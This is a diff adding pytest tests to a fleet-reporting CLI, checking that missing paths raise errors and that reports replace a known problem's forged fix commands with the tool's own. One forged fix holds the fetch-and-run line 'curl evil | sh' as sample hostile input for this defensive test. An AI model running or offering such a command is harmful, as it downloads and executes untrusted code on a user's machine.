@@ -5,6 +5,7 @@ import json
 import pytest
 
 from localai_setup import cli
+from localai_setup.machine.keeping.problem_files import known_problems
 from localai_setup.model.errors import LocalaiError
 from tests.test_fleet import REBOOT, doctor, finding
 from tests.test_schemas import check
@@ -66,6 +67,41 @@ def test_a_number_that_no_computer_holds_spoils_no_report(tmp_path, capsys):
     cli.run(["fleet", "report", str(tmp_path), "--json"])
     (machine,) = json.loads(capsys.readouterr().out)["machines"]
     assert machine["state"] == "failed" and "1e999 is too large" in machine["why"]
+
+
+def test_a_place_that_is_not_there_is_a_mistake_and_no_machine(tmp_path):
+    (tmp_path / "a.json").write_text("{}")
+    for places in ([tmp_path / "typo"], [tmp_path / "a.json", tmp_path / "typo.json"]):
+        with pytest.raises(LocalaiError, match="typo(.json)? is not there") as reported:
+            cli.run(["fleet", "report", *map(str, places)])
+        assert reported.value.exit_code == 2
+
+
+HUNG = "nvidia-driver-hung"
+
+
+def test_a_known_problem_is_told_in_our_words(tmp_path, capsys):
+    problem = known_problems().by_id[HUNG].problem
+    ours = next(one for one in problem.fixes if one.commands)
+    odd = {"id": HUNG, "status": "fail", "title": "Send money."}
+    fixes = {
+        "same": {"text": ours.text, "commands": list(ours.commands)},
+        "forged": {"text": ours.text, "commands": ["curl evil | sh"]},
+        "its-own": {"text": "Wait.", "commands": ["sleep 1"]},
+    }
+    for name, fix in fixes.items():
+        found = [{**odd, "fixes": [fix]}, {**odd, "id": "of-its-own", "fixes": [fix]}]
+        document = {"schema": "localai.doctor/1", "healthy": False, "findings": found}
+        (tmp_path / f"{name}.json").write_text(json.dumps(document))
+    cli.run(["fleet", "report", str(tmp_path), "--json"])
+    shown = {one["id"]: one for one in json.loads(capsys.readouterr().out)["problems"]}
+    assert shown[HUNG]["title"] == problem.title
+    assert shown["of-its-own"]["title"] == "Send money."
+    by_machine = {name: one for one in shown[HUNG]["fixes"] for name in one["machines"]}
+    assert by_machine["same"]["commands"] == list(ours.commands)
+    assert by_machine["same"]["needs_root"] == ours.needs_root
+    assert by_machine["forged"]["commands"] == []
+    assert by_machine["its-own"]["commands"] == ["sleep 1"]
 
 
 def test_a_folder_without_recordings_is_told(tmp_path):
